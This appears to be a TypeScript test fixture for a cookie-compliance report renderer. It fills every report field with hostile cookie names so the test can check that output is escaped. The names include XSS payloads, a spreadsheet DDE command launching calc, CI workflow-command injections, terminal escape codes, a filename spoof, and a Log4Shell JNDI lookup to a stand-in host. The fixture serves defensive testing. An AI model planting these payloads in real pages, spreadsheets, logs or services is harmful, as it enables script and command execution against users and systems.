import type { RunChanges } from '../../../src/model/changes.ts';
import type { Report } from '../../../src/model/report.ts';
import { aCookie, aFinding, anEntry, aReport, aVerdict, byScript } from './builder.ts';

/** What a page may call a cookie, to act where its name is only to be shown. */
export const HOSTILE_NAMES: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '--><svg/onload=alert(1)>',
  '"><b>quoted',
  "' onmouseover='alert(1)",
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '＝1+1',
  '\u202egnp.exe',
  '\u001b[31mred\u001b[0m',
  'a\u0000b\u0007',
  'line\r\n::error title=x::injected',
  '::set-output name=a::b',
  '%0A::error::b',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '@everyone #1 https://evil.example www.evil.example',
  '| a | b |',
  '`code` **bold** <!-- -->',
  ']]>&lt;&amp;',
  '\ud800 half',
  '\uffff',
  '${jndi:ldap://evil.example}',
  'javascript:alert(1)',
  '日本語 é',
];

/** A portal with a cookie, a finding, a reason, a declared entry and a gap of each of those names. */
export function hostileReport(): Report {
  const cookies = HOSTILE_NAMES.map((name) =>
    aCookie({
      name,
      domain: 'evil.example',
      declaration: { status: 'declared', entry: anEntry({ name, purpose: name, provider: name }), why: name },
      setters: [byScript(`https://evil.example/${name}`, 1)],
      sentTo: [name],
    }),
  );
  const report = aReport([
    aVerdict({
      verdict: 'violations',
      reasons: [...HOSTILE_NAMES],
      notObserved: [...HOSTILE_NAMES],
      conditions: [...HOSTILE_NAMES],
      cookies,
      policy: {
        status: 'read',
        source: 'policies/evil.md',
        format: 'markdown',
        completeness: 'complete',
        reason: null,
        entries: HOSTILE_NAMES.map((name) => anEntry({ name, purpose: name })),
      },
      rules: [
        { id: 'cookie/pre-consent', outcome: 'failed', reason: null },
        ...HOSTILE_NAMES.map((name, index) => ({ id: `policy/r${index}`, outcome: 'cant-tell' as const, reason: name })),
      ],
      findings: HOSTILE_NAMES.map((name, index) =>
        aFinding({
          message: `${name} was set`,
          reason: name,
          fix: name,
          cookie: cookies[index] ?? null,
          fingerprint: index.toString(16).padStart(16, '0'),
        }),
      ),
    }),
  ]);
  return { ...report, changes: hostileChanges() };
}

/** And everything that is new of it says so. */
function hostileChanges(): RunChanges {
  const certain = (name: string) => ({ certainty: 'flaky' as const, why: name });
  return {
    before: { run: '20260301', startedAt: '2026-03-01T03:00:00.000Z' },
    after: { run: '20260302', startedAt: '2026-03-02T03:00:00.000Z' },
    notes: [...HOSTILE_NAMES],
    portals: HOSTILE_NAMES.map((name, index) => ({
      url: `https://portal${index}.example/${name}`,
      state: 'compared',
      verdict: { before: 'compliant', after: 'inconclusive' },
      reason: name,
      cookies: [
        { what: 'changed', name, domain: name, path: '/', fields: [{ field: 'set by', before: name, after: name }], ...certain(name) },
      ],
      findings: [
        {
          what: 'new',
          fingerprint: 'f',
          rule: 'cookie/pre-consent',
          severity: 'error',
          review: false,
          message: name,
          subject: name,
          ...certain(name),
        },
      ],
      policy: [name],
    })),
    unchanged: 0,
  };
}
